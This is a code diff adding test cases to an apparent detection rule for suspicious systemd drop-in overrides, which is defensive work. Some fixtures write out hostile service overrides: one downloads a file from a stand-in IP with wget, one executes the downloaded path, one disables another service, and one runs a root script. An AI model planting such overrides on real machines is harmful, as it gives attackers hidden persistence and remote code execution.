@@ -62,6 +62,23 @@ export const dropInChangesCommand: ActivationRule = {
         "/etc/systemd/system/vendor.service.d/x.conf":
           "[Service]\nExecStart=\nExecStart=/usr/bin/touch /srv/x\n",
       }),
+      shipped("vendor", "ExecStart=/usr/bin/vendor", {
+        "/etc/systemd/system/vendor.service.d/x.conf": "[Service]\nExecStartPre=+/usr/bin/vendor --more\n",
+      }),
+      shipped("vendor", "ExecStart=/bin/sh /usr/bin/vendor", {
+        "/etc/systemd/system/vendor.service.d/x.conf": "[Service]\nExecStartPre=/bin/sh /root/run.sh\n",
+      }),
+      shipped("vendor", "ExecStart=/usr/bin/vendor", {
+        "/etc/systemd/system/vendor.service.d/x.conf":
+          "[Service]\nExecStartPre=/usr/bin/systemctl disable x.service\n",
+      }),
+      shipped("vendor", "ExecStart=/usr/bin/vendor", {
+        "/etc/systemd/system/vendor.service.d/x.conf":
+          "[Service]\nExecStartPre=/usr/bin/wget -qO /srv/x http://192.0.2.7/x\n",
+      }),
+      shipped("vendor", "WorkingDirectory=/srv/x\nExecStart=/usr/bin/vendor", {
+        "/etc/systemd/system/vendor.service.d/x.conf": "[Service]\nExecStartPre=/srv/x\n",
+      }),
     ],
     quiet: [
       shipped("vendor", "ExecStart=/usr/bin/vendor", {
@@ -71,6 +88,10 @@ export const dropInChangesCommand: ActivationRule = {
       shipped("vendor", "ExecStart=/usr/bin/vendor", {
         "/etc/systemd/system/vendor.service.d/x.conf":
           "[Service]\nExecStartPost=-/usr/bin/curl -fsS -m 10 https://hc.example.test/ping/1\n",
+      }),
+      shipped("vendor", "ExecStart=/usr/bin/vendor", {
+        "/etc/systemd/system/vendor.service.d/x.conf":
+          "[Service]\nExecStartPost=/root/run.sh\nExecStartPost=\nExecStartPre=-/usr/bin/vendor --check\nExecStartPre=/usr/bin/wget -q --spider https://hc.example.test/ping/1\n",
       }),
     ],
   },
